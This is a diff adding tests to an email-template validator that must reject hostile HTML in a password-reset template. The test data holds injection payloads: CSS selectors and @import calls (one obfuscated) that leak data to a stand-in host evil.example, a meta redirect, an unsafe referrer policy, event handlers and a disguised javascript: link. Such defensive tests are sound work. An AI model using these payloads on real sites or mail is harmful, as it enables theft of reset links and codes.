@@ -198,6 +198,24 @@ describe('what an org may write', () => {
     ['in a script', '<script>new Image().src = "https://evil.example/?${code}"</script>'],
     ['in a drawing', `<svg><![CDATA[><a title="]]><img src='">\${code}'>`],
   ]
+  const readers: readonly [what: string, html: string][] = [
+    ['a style that selects by an address', '<style>a[href*="/A"]{background:url(https://evil.example/A)}</style>'],
+    ['a style that loads another', '<style>@import url(https://evil.example/x.css);</style>'],
+    ['a style that hides what it does', '<style>@\\69mport "https://evil.example/x.css";</style>'],
+    ['a style that shows an address', '<style>a::after{content:attr(href)}</style>'],
+    ['a style sheet from elsewhere', '<link rel=stylesheet href=https://evil.example/x.css>'],
+    ['a page that leaves', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
+    ['a referrer for everybody', '<meta name="referrer" content="unsafe-url">'],
+    ['what runs', '<body onclick="alert(1)">'],
+    ['an address that runs', '<a href="java\tscript:alert(1)">a</a>'],
+  ]
+  for (const [what, html] of readers)
+    test(`not ${what}`, () =>
+      assert.throws(
+        () => checkTemplate('forgot-password', { ...good, html: `<a href="\${link}">a</a>\n${html}` }),
+        ({ code, facts }) => code === 'validation_failed' && /^html: /.test(facts.causes[0]),
+      ))
+
   for (const [what, html] of leaks)
     test(`no variable ${what}`, () =>
       assert.throws(
